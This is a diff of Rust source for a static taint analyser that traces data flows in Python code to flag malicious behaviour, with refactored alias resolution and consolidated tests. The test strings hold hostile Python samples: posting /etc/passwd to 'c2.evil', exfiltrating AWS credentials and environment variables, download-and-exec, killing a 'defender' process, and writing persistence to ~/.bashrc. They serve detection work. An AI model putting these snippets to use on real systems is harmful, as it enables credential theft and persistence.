+                let mut bytes = std::mem::take(&mut s.bytes);
+                let ok = decode(arg.get(module, &s.text), &mut bytes);
+                if ok {
+                    fold::push_lossy(&bytes, &mut s.text);
+                }
+                s.bytes = bytes;
+                ok
+            }
+        };
+        let cval = match path {
+            "base64.b64decode" => self.fold(None, decoded(fold::b64decode)),
+            "bytes.fromhex" => self.fold(None, decoded(fold::fromhex)),
+            "chr" => self.fold(None, |s, module| {
+                let arg = arg0.cval.map_or("", |arg| arg.get(module, &s.text));
+                fold::chr(arg).map(|c| s.text.push(c)).is_some()
+            }),
+            "str" | "os.path.expanduser" | "os.fsdecode" => return arg0,
+            _ => {
+                // `const.decode('utf-8')`, `.strip()`, ... — method on a
+                // constant receiver preserves the constant.
+                let method = match module.expr(func) {
+                    Expr::Attribute { attr, .. } => attr.text(module.source()),
+                    _ => "",
+                };
+                if fold::const_preserving_method(method) && recv.cval.is_some() {
+                    return recv;
+                }
+                None
+            }
+        };
+        Value::new(cval, cval.is_some())
+    }
+
+    /// Appends the canonical dotted path of a callee to `out`, resolving
+    /// import aliases; appends nothing for shapes without a path. Given
+    /// the `line` a call is evaluated at, `getattr`'s name argument folds
+    /// first (`getattr(os, 'sys' + 'tem')`) and `__import__('m')`
+    /// resolves.
+    fn callee_path(&mut self, id: ExprId, line: Option<u32>, out: &mut String) {
+        let module = self.module;
+        let (src, start) = (module.source(), out.len());
+        match *module.expr(id) {
+            Expr::Name(n) => self.push_resolved(n.text(src), out),
+            Expr::Attribute { value, attr } => {
+                self.callee_path(value, line, out);
+                if out.len() > start {
+                    out.push('.');
+                }
+                out.push_str(attr.text(src));
+            }
+            Expr::Call { func, args } => {
+                self.callee_path(func, line, out);
+                let (Some(line), args) = (line, module.args(args)) else {
+                    return;
+                };
                 let head = &out[start..];
                 if head == "getattr" && args.len() >= 2 {
                     out.truncate(start);
-                    self.callee_path_with_consts(module.expr(args[0].value), scope, line, out);
-                    match self.eval(module.expr(args[1].value), scope, line).cval {
+                    self.callee_path(args[0].value, Some(line), out);
+                    match self.eval_const(args[1].value, line) {
                         Some(name) => {
                             if out.len() > start {
                                 out.push('.');
                             }
-                            out.push_str(&name);
+                            out.push_str(name.get(module, &self.s.text));
                         }
                         None => out.truncate(start),
                     }
                 } else if head == "__import__" {
                     out.truncate(start);
-                    if let Some(first) = args.first() {
-                        if let Some(m) = self.eval(module.expr(first.value), scope, line).cval {
-                            out.push_str(&m);
-                        }
+                    if let Some(m) = args.first().and_then(|a| self.eval_const(a.value, line)) {
+                        out.push_str(m.get(module, &self.s.text));
                     }
                 }
             }
-            Expr::Attribute { value, attr } => {
-                self.callee_path_with_consts(module.expr(value), scope, line, out);
-                if out.len() > start {
-                    out.push('.');
+            Expr::Other(_) => {
+                let mut path = self.s.paths.pop().unwrap_or_default();
+                module.expr(id).write_func_path(module, &mut path);
+                let (head, rest) = path.split_once('.').unwrap_or((&path, ""));
+                self.push_resolved(head, out);
+                if head.len() < path.len() {
+                    out.extend([".", rest]);
                 }
-                out.push_str(attr.text(module.source()));
+                self.give_back(path);
             }
-            _ => callee_path(func, module, scope, out),
+            _ => {}
         }
+    }
+
+    /// The constant `id` evaluates to; its taints are dropped.
+    fn eval_const(&mut self, id: ExprId, line: u32) -> Option<Text> {
+        let at = self.s.stack.len();
+        let cval = self.eval(id, line).cval;
+        self.s.stack.truncate(at);
+        cval
+    }
+
+    /// Appends the path the import alias `name` names, or `name` itself.
+    /// The in-scope binding wins; the module-wide one answers only for a
+    /// name with no variable or constant binding (never hijack a local).
+    fn push_resolved(&self, name: &str, out: &mut String) {
+        let slot = self.s.id(name).map(|id| self.s.ids[id as usize].slot);
+        let alias = slot.and_then(|s| {
+            let local = s.var.is_some() || s.cst.is_some();
+            s.alias.or(if local { None } else { s.global })
+        });
+        out.push_str(alias.map_or(name, |a| a.get(self.module, &self.s.text)));
     }
 
     /// Returns a callee-path buffer to the pool.
     fn give_back(&mut self, mut path: String) {
         path.clear();
-        self.paths.push(path);
+        self.s.paths.push(path);
     }
 
-    fn emit_flow(&mut self, taint: &Taint, sink: &str, kind: SinkKind, line: usize) {
-        let key = (taint.source.clone(), sink.to_owned());
-        if !self.flow_keys.insert(key) {
+    /// Records the flow of `taint` into the call of `sink`, rendered as
+    /// the summary shows it, unless its source already reached that sink.
+    fn emit_flow(&mut self, taint: Taint, sink: &str, kind: SinkKind, line: u32) {
+        let (s, module) = (&mut self.s, self.module);
+        let sink = s.intern(sink);
+        if !s.flow_keys.insert((taint.source, sink)) {
             return;
         }
-        let mut steps = taint.steps.clone();
-        push_step(&mut steps, line, clip(format!("reaches sink {sink}(...)")));
-        self.flows.push(FlowFinding {
-            label: format!("flow:{}->{}", taint.kind.label(), kind.label()),
-            source: taint.source.clone(),
-            sink: sink.to_owned(),
+        let (from, to) = (taint.kind.label(), kind.label());
+        let mut label = String::with_capacity(7 + from.len() + to.len());
+        label.extend(["flow:", from, "->", to]);
+        // The chain as a summary keeps it: its first steps, then the sink.
+        let tip = s.nodes[taint.chain as usize];
+        let kept = tip.depth.min(MAX_STEPS - 1);
+        let mut at = if tip.depth >= MAX_STEPS {
+            tip.parent
+        } else {
+            taint.chain
+        };
+        let mut steps = Vec::with_capacity(kept as usize + 1);
+        while let Some(node) = s.nodes.get(at as usize).copied() {
+            let note = s.note(module, node.note);
+            steps.push(FlowStep {
+                line: node.line,
+                note,
+            });
+            at = node.parent;
+        }
+        steps.reverse();
+        let note = s.note(module, Note::Sink(sink));
+        steps.push(FlowStep { line, note });
+        let (source, sink) = (s.name(taint.source).to_owned(), s.name(sink).to_owned());
+        s.flows.push(FlowFinding {
+            label,
+            source,
+            sink,
             steps,
         });
     }
 
-    /// Identifier scan over reconstructed text (`Expr::Other`): dict/
-    /// list literals, subscripts and tuples degrade to text, but taint
-    /// must still flow through them (`requests.post(url, json={'email':
-    /// email})`).
-    fn scan_idents(&mut self, text: &str, scope: &Scope<'_, '_>) -> Value<'m> {
-        let mut v = Value::default();
-        for word in ident_words(text) {
-            if let Some(ts) = scope.var(&word) {
-                for t in ts {
-                    add_taint(&mut v.taints, t.clone());
-                }
-            }
-        }
-        v
-    }
-
-    fn record_fold(&mut self, line: usize, v: &Value<'_>) {
-        if !v.folded || self.folded.len() >= MAX_FOLDED {
+    fn record_fold(&mut self, line: u32, v: Value) {
+        if !v.folded || self.s.folded.len() >= MAX_FOLDED {
             return;
         }
-        if let Some(c) = &v.cval {
-            if c.len() >= MIN_FOLDED_LEN {
-                self.folded.push(FoldedConst {
-                    line: line as u32,
-                    text: c.to_string(),
-                });
+        if let Some(c) = v.cval {
+            if c.get(self.module, &self.s.text).len() >= MIN_FOLDED_LEN {
+                self.s.folded.push((line, c));
             }
         }
     }
 }
 
-/// Folds constant-producing calls: decode chains, const-preserving
-/// string methods, `chr`, passthroughs.
-fn fold_call<'e>(
-    path: &str,
-    func: &Expr,
-    module: &Module,
-    arg_vals: &[Value<'e>],
-    out: &mut Value<'e>,
-    recv: &Value<'e>,
-) {
-    let arg0 = arg_vals.first().and_then(|v| v.cval.as_deref());
-    let decoded = match path {
-        "base64.b64decode" => arg0.and_then(fold::fold_b64decode),
-        "bytes.fromhex" => arg0.and_then(fold::fold_fromhex),
-        "chr" => arg0.and_then(fold::fold_chr),
-        "str" | "os.path.expanduser" | "os.fsdecode" => {
-            if let Some(first) = arg_vals.first().filter(|v| v.cval.is_some()) {
-                out.cval = first.cval.clone();
-                out.folded = first.folded;
-            }
-            None
+impl Scratch {
+    fn clear(&mut self) {
+        self.names.clear();
+        self.ids.clear();
+        self.by_hash.clear();
+        self.undo.clear();
+        self.sets.clear();
+        self.nodes.clear();
+        self.stack.clear();
+        self.args.clear();
+        self.text.clear();
+        self.flow_keys.clear();
+        self.folded.clear();
+    }
+
+    fn heap_bytes(&self) -> usize {
+        fn bytes<T>(v: &Vec<T>) -> usize {
+            v.capacity() * std::mem::size_of::<T>()
         }
-        _ => {
-            // `const.decode('utf-8')`, `.strip()`, ... — method on a
-            // constant receiver preserves the constant.
-            if let Expr::Attribute { attr, .. } = func {
-                if fold::const_preserving_method(attr.text(module.source())) && recv.cval.is_some()
-                {
-                    out.cval = recv.cval.clone();
-                    out.folded = recv.folded;
-                }
+        let texts = [&self.names, &self.text, &self.buf]
+            .into_iter()
+            .chain(&self.paths);
+        let vecs = bytes(&self.ids) + bytes(&self.undo) + bytes(&self.sets) + bytes(&self.nodes);
+        let stacks = bytes(&self.stack) + bytes(&self.args) + bytes(&self.bytes);
+        let out = bytes(&self.flows) + bytes(&self.folded);
+        let maps = (self.by_hash.capacity() + self.flow_keys.capacity()) * 16;
+        texts.map(String::capacity).sum::<usize>() + vecs + stacks + out + maps
+    }
+
+    fn name(&self, id: u32) -> &str {
+        let e = &self.ids[id as usize];
+        &self.names[e.start as usize..e.end as usize]
+    }
+
+    /// The id of `text`, if it was interned.
+    fn id(&self, text: &str) -> Option<u32> {
+        let mut id = *self.by_hash.get(&self.hasher.hash_one(text))?;
+        while self.name(id) != text {
+            id = self.ids[id as usize].older;
+            if id == NONE {
+                return None;
             }
-            None
         }
+        Some(id)
+    }
+
+    fn intern(&mut self, text: &str) -> u32 {
+        if let Some(id) = self.id(text) {
+            return id;
+        }
+        let id = self.ids.len() as u32;
+        let start = self.names.len() as u32;
+        self.names.push_str(text);
+        let hash = self.hasher.hash_one(text);
+        self.ids.push(Entry {
+            start,
+            end: self.names.len() as u32,
+            older: self.by_hash.insert(hash, id).unwrap_or(NONE),
+            slot: Slot::default(),
+        });
+        id
+    }
+
+    /// Appends `range` of `t`'s text to the text arena.
+    fn append(&mut self, module: &Module, t: Text, range: impl RangeBounds<usize>) {
+        let from = match range.start_bound() {
+            Bound::Included(&at) => at,
+            _ => 0,
+        };
+        let to = match range.end_bound() {
+            Bound::Excluded(&at) => at,
+            _ => t.get(module, &self.text).len(),
+        };
+        match t {
+            Text::Arena(start, _) => {
+                let start = start as usize;
+                self.text.extend_from_within(start + from..start + to);
+            }
+            _ => self.text.push_str(&t.get(module, "")[from..to]),
+        }
+    }
+
+    /// A step's note: rendered, clipped, and copied out once.
+    fn note(&mut self, module: &Module, note: Note) -> String {
+        let mut buf = std::mem::take(&mut self.buf);
+        buf.clear();
+        match note {
+            Note::Read(id) => buf.extend(["read ", self.name(id)]),
+            Note::Call(id) => buf.extend(["call ", self.name(id), "(...)"]),
+            Note::Open(id) => {
+                let source = self.name(id);
+                buf.extend(["open startup path ", &source[5..source.len() - 1]]);
+            }
+            Note::Assign(id, value) => {
+                buf.extend([self.name(id), " = "]);
+                let at = buf.len();
+                module.expr(value).write_text(module, &mut buf);
+                clip(&mut buf, at);
+            }
+            Note::Header(id) => buf.extend([self.name(id), " bound in block header"]),
+            Note::Sink(id) => buf.extend(["reaches sink ", self.name(id), "(...)"]),
+        }
+        clip(&mut buf, 0);
+        let note = buf.as_str().to_owned();
+        self.buf = buf;
+        note
+    }
+
+    /// The flows sorted and the folded constants sorted by (line, text)
+    /// and deduplicated, each constant copied out once.
+    fn summary(&mut self, module: &Module) -> TaintSummary {
+        self.flows.sort();
+        let text = |c: &(u32, Text)| c.1.get(module, &self.text);
+        self.folded
+            .sort_by(|a, b| a.0.cmp(&b.0).then_with(|| text(a).cmp(text(b))));
+        self.folded
+            .dedup_by(|a, b| a.0 == b.0 && text(a) == text(b));
+        let folded = self.folded.iter().map(|c| FoldedConst {
+            line: c.0,
+            text: text(c).to_owned(),
+        });
+        TaintSummary {
+            folded: folded.collect(),
+            flows: self.flows.drain(..).collect(),
+        }
+    }
+}
+
+/// Clips `buf[from..]` to [`MAX_NOTE_LEN`] bytes plus an ellipsis.
+fn clip(buf: &mut String, from: usize) {
+    if buf.len() - from > MAX_NOTE_LEN {
+        let mut cut = from + MAX_NOTE_LEN;
+        while !buf.is_char_boundary(cut) {
+            cut -= 1;
+        }
+        buf.truncate(cut);
+        buf.push('…');
+    }
+}
+
+/// The names an import statement binds, each with the module a
+/// from-import reads it from; a star import binds none.
+fn imported<'m>(
+    module: &'m Module,
+    stmt: &Stmt,
+) -> impl Iterator<Item = (&'m ImportedName, Option<Span>)> {
+    let (names, from) = match *stmt {
+        Stmt::Import { modules, .. } => (modules, None),
+        Stmt::FromImport { module, names, .. } => (names, Some(module)),
+        _ => (Run::default(), None),
     };
-    if let Some(c) = decoded {
-        out.cval = Some(Cow::Owned(c));
-        out.folded = true;
-    }
-}
-
-/// Appends the canonical dotted path of a callee to `out`, resolving
-/// import aliases. Appends nothing for shapes without a path.
-fn callee_path(expr: &Expr, module: &Module, scope: &Scope<'_, '_>, out: &mut String) {
-    let src = module.source();
-    match *expr {
-        Expr::Name(n) => {
-            let n = n.text(src);
-            out.push_str(scope.alias(n).map_or(n, |a| a.as_ref()));
-        }
-        Expr::Attribute { value, attr } => {
-            let start = out.len();
-            callee_path(module.expr(value), module, scope, out);
-            if out.len() > start {
-                out.push('.');
-            }
-            out.push_str(attr.text(src));
-        }
-        Expr::Call { func, .. } => callee_path(module.expr(func), module, scope, out),
-        Expr::Other(_) => {
-            let p = expr.func_path(module);
-            if !p.is_empty() {
-                resolve_first_segment(&p, scope, out);
-            }
-        }
-        _ => {}
-    }
-}
-
-fn resolve_first_segment(path: &str, scope: &Scope<'_, '_>, out: &mut String) {
-    match path.split_once('.') {
-        Some((head, rest)) => match scope.alias(head) {
-            Some(full) => {
-                out.push_str(full);
-                out.push('.');
-                out.push_str(rest);
-            }
-            None => out.push_str(path),
-        },
-        None => out.push_str(scope.alias(path).map_or(path, |a| a.as_ref())),
-    }
-}
-
-/// Collects every import binding in the module, recursing into every
-/// nested body, for [`Scope::globals`].
-fn collect_global_aliases<'m>(module: &'m Module, out: &mut BTreeMap<&'m str, Cow<'m, str>>) {
-    let src = module.source();
-    for stmt in module.statements() {
-        match *stmt {
-            Stmt::Import { modules, .. } => {
-                for m in module.imports(modules) {
-                    out.entry(m.binding(src)).or_insert_with(|| match &m.alias {
-                        Some(_) => m.path.dotted(src),
-                        None => Cow::Borrowed(m.binding(src)),
-                    });
-                }
-            }
-            Stmt::FromImport {
-                module: from,
-                names,
-                ..
-            } => {
-                for n in module.imports(names) {
-                    let name = n.path.text(src);
-                    if name == "*" {
-                        continue;
-                    }
-                    out.entry(n.binding(src))
-                        .or_insert_with(|| Cow::Owned(format!("{}.{name}", from.dotted(src))));
-                }
-            }
-            _ => {}
-        }
-    }
-}
-
-/// Binds each name of a `for`/`with` header's target text to the
-/// header value's `taints` (or unbinds it, when there are none).
-fn bind_header_targets<'m>(
-    targets: &'m str,
-    taints: &[Taint],
-    scope: &mut Scope<'m, '_>,
-    line: usize,
-) {
-    for name in ident_words(targets) {
-        if taints.is_empty() {
-            scope.set_var(name, None);
-        } else {
-            let note = clip(format!("{name} bound in block header"));
-            let taints = stepped(taints, line, &note);
-            scope.set_var(name, Some(taints));
-        }
-    }
-}
-
-/// Copies of `taints`, each carried one step further by `note`.
-fn stepped(taints: &[Taint], line: usize, note: &str) -> Vec<Taint> {
-    taints
+    let star = move |n: &&ImportedName| from.is_some() && n.path.text(module.source()) == "*";
+    module
+        .imports(names)
         .iter()
-        .map(|t| {
-            let mut t = t.clone();
-            push_step(&mut t.steps, line, note.to_owned());
-            t
-        })
-        .collect()
-}
-
-fn add_taint(taints: &mut Vec<Taint>, t: Taint) {
-    if taints.len() >= MAX_TAINTS {
-        return;
-    }
-    if taints.iter().any(|e| e.source == t.source) {
-        return;
-    }
-    taints.push(t);
-}
-
-fn push_step(steps: &mut Vec<FlowStep>, line: usize, note: String) {
-    if steps.len() >= MAX_STEPS {
-        // Keep the head of the chain; the sink step replaces the tail.
-        steps.truncate(MAX_STEPS - 1);
-    }
-    steps.push(FlowStep {
-        line: line as u32,
-        note,
-    });
+        .filter(move |n| !star(n))
+        .map(move |n| (n, from))
 }
 
 /// The base identifier of an assignment target, read off the front of
@@ -766,71 +996,50 @@ fn leading_ident(text: &str) -> &str {
     &text[..end]
 }
 
-/// Identifier-shaped words in reconstructed text, skipping quoted runs
-/// and words that start with a digit. A quoted run does not end a word:
-/// `a'x'b` reads as `ab`, the one shape whose word is not a slice of
-/// `text` and so owns its bytes.
-fn ident_words(text: &str) -> impl Iterator<Item = Cow<'_, str>> {
+/// The next identifier-shaped word of reconstructed text from `*pos`,
+/// skipping quoted runs and words that start with a digit. A quoted run
+/// does not end a word: `a'x'b` reads as `ab`, the one shape whose word
+/// is not a slice of `text` and is built in `glued`.
+fn ident_word<'a>(text: &'a str, pos: &mut usize, glued: &'a mut String) -> Option<&'a str> {
     let bytes = text.as_bytes();
-    let mut pos = 0;
-    std::iter::from_fn(move || {
-        // The word so far: `start..end`, until a quoted run splits it.
-        let mut word: Option<(usize, usize)> = None;
-        let mut glued: Option<String> = None;
-        let mut quote = None;
-        loop {
-            let b = bytes.get(pos).copied();
-            pos += 1;
-            match (b, quote) {
-                (Some(b), Some(q)) => {
-                    if b == q {
-                        quote = None;
-                    }
-                }
-                (Some(b @ (b'\'' | b'"')), None) => quote = Some(b),
-                (Some(b), None) if b.is_ascii_alphanumeric() || b == b'_' => {
-                    let at = pos - 1;
-                    match (&mut glued, &mut word) {
-                        (Some(g), _) => g.push(char::from(b)),
-                        (None, Some((_, end))) if *end == at => *end += 1,
-                        (None, Some((start, end))) => {
-                            let mut g = text[*start..*end].to_owned();
-                            g.push(char::from(b));
-                            glued = Some(g);
-                        }
-                        (None, None) => word = Some((at, at + 1)),
-                    }
-                }
-                // A separator, or the end of the text (also inside an
-                // unclosed quote).
-                _ => {
-                    if let Some((start, end)) = word.take() {
-                        let owned = glued.take();
-                        if !bytes[start].is_ascii_digit() {
-                            return Some(
-                                owned.map_or(Cow::Borrowed(&text[start..end]), Cow::Owned),
-                            );
-                        }
-                    }
-                    // The end of the text ends the iteration.
-                    b?;
+    // The word so far, `start..end`, and whether a quoted run split it.
+    let (mut word, mut split, mut quote) = (None::<(usize, usize)>, false, None);
+    loop {
+        let b = bytes.get(*pos).copied();
+        *pos += 1;
+        match (b, quote) {
+            (Some(b), Some(q)) => {
+                if b == q {
+                    quote = None;
                 }
             }
+            (Some(b @ (b'\'' | b'"')), None) => quote = Some(b),
+            (Some(b), None) if b.is_ascii_alphanumeric() || b == b'_' => match &mut word {
+                Some((_, end)) if *end == *pos - 1 && !split => *end += 1,
+                Some((start, end)) => {
+                    if !split {
+                        glued.clear();
+                        glued.push_str(&text[*start..*end]);
+                        split = true;
+                    }
+                    glued.push(char::from(b));
+                }
+                None => word = Some((*pos - 1, *pos)),
+            },
+            // A separator, or the end of the text (also inside an
+            // unclosed quote).
+            _ => {
+                if let Some((start, end)) = word.take() {
+                    if !bytes[start].is_ascii_digit() {
+                        return Some(if split { glued } else { &text[start..end] });
+                    }
+                }
+                split = false;
+                // The end of the text ends the iteration.
+                b?;
+            }
         }
-    })
-}
-
-fn clip(mut s: String) -> String {
-    if s.len() <= MAX_NOTE_LEN {
-        return s;
     }
-    let mut cut = MAX_NOTE_LEN;
-    while !s.is_char_boundary(cut) {
-        cut -= 1;
-    }
-    s.truncate(cut);
-    s.push('…');
-    s
 }
 
 #[cfg(test)]
@@ -858,36 +1067,78 @@ mod tests {
         assert!(fs[0].steps.iter().any(|s| s.note.contains("cmd =")));
     }
 
+    /// Shapes with one flow each, as `label source sink`.
     #[test]
-    fn alias_resolution_through_import_as() {
-        let src =
-            "import os as o\nimport requests as r\ncmd = r.get('http://x').text\no.system(cmd)\n";
-        let fs = flows(src);
-        assert_eq!(fs.len(), 1, "{fs:?}");
-        assert_eq!(fs[0].source, "requests.get");
-        assert_eq!(fs[0].sink, "os.system");
-    }
-
-    #[test]
-    fn from_import_alias_resolution() {
-        let src = "from subprocess import run as r\nfrom os import environ\nr(environ.get('PATH'), shell=True)\n";
-        let fs = flows(src);
-        assert_eq!(fs.len(), 1, "{fs:?}");
-        assert_eq!(fs[0].source, "os.environ.get");
-        assert_eq!(fs[0].sink, "subprocess.run");
-    }
-
-    #[test]
-    fn sibling_function_alias_resolves_via_module_wide_fallback() {
-        // Textual obfuscators rewrite `requests.post` to the alias
-        // bound by an `import requests as ctx` that lives in a
-        // *different* function. The module-wide fallback keeps the
-        // rewritten spelling resolvable.
-        let src = "def a():\n    import requests as ctx\n    return ctx.get('http://x')\ndef b():\n    import os, requests\n    data = open('/etc/passwd').read()\n    ctx.post('http://c2.evil', json=data)\n";
-        let fs = flows(src);
-        assert_eq!(fs.len(), 1, "{fs:?}");
-        assert_eq!(fs[0].source, "open");
-        assert_eq!(fs[0].sink, "requests.post");
+    fn each_shape_has_its_one_flow() {
+        for (src, flow) in [
+            // Aliases through `import ... as`.
+            (
+                "import os as o\nimport requests as r\ncmd = r.get('http://x').text\no.system(cmd)\n",
+                "flow:net-fetch->proc-exec requests.get os.system",
+            ),
+            (
+                "from subprocess import run as r\nfrom os import environ\nr(environ.get('PATH'), shell=True)\n",
+                "flow:env-read->proc-exec os.environ.get subprocess.run",
+            ),
+            // Textual obfuscators rewrite `requests.post` to the alias
+            // bound by an `import requests as ctx` that lives in a
+            // *different* function. The module-wide fallback keeps the
+            // rewritten spelling resolvable.
+            (
+                "def a():\n    import requests as ctx\n    return ctx.get('http://x')\ndef b():\n    import os, requests\n    data = open('/etc/passwd').read()\n    ctx.post('http://c2.evil', json=data)\n",
+                "flow:file-read->net-send open requests.post",
+            ),
+            // `getattr` indirection folds to the dotted path, and so does
+            // the string arm's own output shape: module and attribute
+            // both reconstructed at runtime.
+            (
+                "import os, requests\ncmd = getattr(requests, 'get')('http://x').text\ngetattr(os, 'system')(cmd)\n",
+                "flow:net-fetch->proc-exec requests.get os.system",
+            ),
+            (
+                "data = input()\ngetattr(__import__('o' + 's'), 'sys' + 'tem')(data)\n",
+                "flow:stdin-read->proc-exec input os.system",
+            ),
+            (
+                "def f():\n    import os, requests\n    env = dict(os.environ)\n    requests.post('https://x/collect', json=env)\n",
+                "flow:env-read->net-send os.environ requests.post",
+            ),
+            // Through a subscript target, a dict literal argument, a
+            // `for` header and direct nesting.
+            (
+                "def f():\n    import os, requests\n    loot = {}\n    for t in ['~/.aws/credentials']:\n        path = os.path.expanduser(t)\n        loot[t] = open(path).read()\n    requests.post('https://h/x', json=loot)\n",
+                "flow:file-read->net-send open requests.post",
+            ),
+            (
+                "import subprocess, requests\nemail = subprocess.check_output(['git', 'config', 'user.email']).decode()\nrequests.post('https://h/x', json={'email': email})\n",
+                "flow:proc-read->net-send subprocess.check_output requests.post",
+            ),
+            (
+                "def f():\n    import os, signal\n    for line in os.popen('ps ax').readlines():\n        if 'defender' in line:\n            pid = int(line.split()[0])\n            os.kill(pid, signal.SIGKILL)\n",
+                "flow:proc-read->proc-control os.popen os.kill",
+            ),
+            (
+                "import requests\nrequests.post('https://h/x', data=open('/etc/passwd', 'rb').read())\n",
+                "flow:file-read->net-send open requests.post",
+            ),
+            // A write through a handle on a startup path, with and
+            // without `expanduser`.
+            (
+                "def f():\n    import os\n    with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n        rc.write('python3 /tmp/.x.py &\\n')\n",
+                "flow:startup-open->startup-write open[~/.bashrc] rc.write",
+            ),
+            (
+                "def f():\n    with open('/etc/hosts', 'a') as hosts:\n        hosts.write('0.0.0.0 x\\n')\n",
+                "flow:startup-open->startup-write open[/etc/hosts] hosts.write",
+            ),
+        ] {
+            let fs = flows(src);
+            let got: Vec<String> = fs
+                .iter()
+                .map(|f| format!("{} {} {}", f.label, f.source, f.sink))
+                .collect();
+            assert_eq!(got, [flow], "{src}");
+        }
     }
 
     #[test]
@@ -897,27 +1148,6 @@ mod tests {
         let src = "def a():\n    import requests as ctx\n    return ctx.get('http://x')\ndef b():\n    ctx = 'label'\n    data = open('/etc/passwd').read()\n    ctx.post(data)\n";
         let fs = flows(src);
         assert!(fs.is_empty(), "{fs:?}");
-    }
-
-    #[test]
-    fn getattr_indirection_folds_to_dotted_path() {
-        let src = "import os, requests\ncmd = getattr(requests, 'get')('http://x').text\ngetattr(os, 'system')(cmd)\n";
-        let fs = flows(src);
-        assert_eq!(fs.len(), 1, "{fs:?}");
-        assert_eq!(fs[0].source, "requests.get");
-        assert_eq!(fs[0].sink, "os.system");
-    }
-
-    #[test]
-    fn dunder_import_with_encoded_name_folds() {
-        // The string arm's own output shape: module and attribute both
-        // reconstructed at runtime.
-        let src = "data = input()\ngetattr(__import__('o' + 's'), 'sys' + 'tem')(data)\n";
-        let fs = flows(src);
-        assert_eq!(fs.len(), 1, "{fs:?}");
-        assert_eq!(fs[0].source, "input");
-        assert_eq!(fs[0].sink, "os.system");
-        assert_eq!(fs[0].label, "flow:stdin-read->proc-exec");
     }
 
     #[test]
@@ -935,54 +1165,12 @@ mod tests {
     }
 
     #[test]
-    fn env_dict_to_post() {
-        let src = "def f():\n    import os, requests\n    env = dict(os.environ)\n    requests.post('https://x/collect', json=env)\n";
-        let fs = flows(src);
-        assert_eq!(fs.len(), 1, "{fs:?}");
-        assert_eq!(fs[0].label, "flow:env-read->net-send");
-    }
-
-    #[test]
-    fn file_read_through_subscript_target_to_post() {
-        let src = "def f():\n    import os, requests\n    loot = {}\n    for t in ['~/.aws/credentials']:\n        path = os.path.expanduser(t)\n        loot[t] = open(path).read()\n    requests.post('https://h/x', json=loot)\n";
-        let fs = flows(src);
-        assert_eq!(fs.len(), 1, "{fs:?}");
-        assert_eq!(fs[0].label, "flow:file-read->net-send");
-        assert_eq!(fs[0].source, "open");
-    }
-
-    #[test]
-    fn taint_through_dict_literal_argument() {
-        let src = "import subprocess, requests\nemail = subprocess.check_output(['git', 'config', 'user.email']).decode()\nrequests.post('https://h/x', json={'email': email})\n";
-        let fs = flows(src);
-        assert_eq!(fs.len(), 1, "{fs:?}");
-        assert_eq!(fs[0].label, "flow:proc-read->net-send");
-    }
-
-    #[test]
-    fn popen_lines_to_kill() {
-        let src = "def f():\n    import os, signal\n    for line in os.popen('ps ax').readlines():\n        if 'defender' in line:\n            pid = int(line.split()[0])\n            os.kill(pid, signal.SIGKILL)\n";
-        let fs = flows(src);
-        assert_eq!(fs.len(), 1, "{fs:?}");
-        assert_eq!(fs[0].label, "flow:proc-read->proc-control");
-    }
-
-    #[test]
     fn download_to_exec_compile() {
         let src = "def inject():\n    import requests\n    src = requests.get('https://h/i.py').text\n    exec(compile(src, 'inject', 'exec'))\n";
         let fs = flows(src);
         let sinks: Vec<&str> = fs.iter().map(|f| f.sink.as_str()).collect();
         assert!(sinks.contains(&"compile"), "{fs:?}");
         assert!(sinks.contains(&"exec"), "{fs:?}");
-    }
-
-    #[test]
-    fn startup_path_write_flow() {
-        let src = "def f():\n    import os\n    with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n        rc.write('python3 /tmp/.x.py &\\n')\n";
-        let fs = flows(src);
-        assert_eq!(fs.len(), 1, "{fs:?}");
-        assert_eq!(fs[0].label, "flow:startup-open->startup-write");
-        assert!(fs[0].source.contains(".bashrc"), "{fs:?}");
     }
 
     #[test]
@@ -993,20 +1181,6 @@ mod tests {
             let src = format!("{prefix}for line in os.popen('ps'):\n    os.kill(line, 9)\n");
             assert_eq!(labels(&src), ["flow:proc-read->proc-control"], "{src}");
         }
-    }
-
-    #[test]
-    fn etc_hosts_write_without_expanduser() {
-        let src = "def f():\n    with open('/etc/hosts', 'a') as hosts:\n        hosts.write('0.0.0.0 x\\n')\n";
-        assert_eq!(labels(src), vec!["flow:startup-open->startup-write"]);
-    }
-
-    #[test]
-    fn config_extraction_direct_nesting() {
-        let src = "import requests\nrequests.post('https://h/x', data=open('/etc/passwd', 'rb').read())\n";
-        let fs = flows(src);
-        assert_eq!(fs.len(), 1, "{fs:?}");
-        assert_eq!(fs[0].label, "flow:file-read->net-send");
     }
 
     #[test]
@@ -1087,10 +1261,12 @@ mod tests {
 
     #[test]
     fn ident_words_read_through_quoted_runs() {
-        let words: Vec<Cow<'_, str>> = ident_words("a'x'b c1 9z 'q' _d \"e").collect();
+        let (mut pos, mut glued, mut words) = (0, String::new(), Vec::new());
+        let text = "a'x'b c1 9z 'q' _d \"e";
+        while let Some(word) = ident_word(text, &mut pos, &mut glued) {
+            words.push(word.to_owned());
+        }
         assert_eq!(words, ["ab", "c1", "_d"]);
-        assert!(matches!(words[0], Cow::Owned(_)));
-        assert!(matches!(words[1], Cow::Borrowed(_)));
     }
 
     #[test]
@@ -1103,6 +1279,9 @@ mod tests {
         src.push_str("os.system(x39)\n");
         let fs = flows(&src);
         assert_eq!(fs.len(), 1);
-        assert!(fs[0].steps.len() <= MAX_STEPS);
+        assert!(fs[0].steps.len() <= MAX_STEPS as usize);
+        // The head of the chain and the sink survive.
+        assert_eq!(fs[0].steps[2].note, "x1 = x0 + 'a'");
+        assert_eq!(fs[0].steps[11].note, "reaches sink os.system(...)");
     }
 }
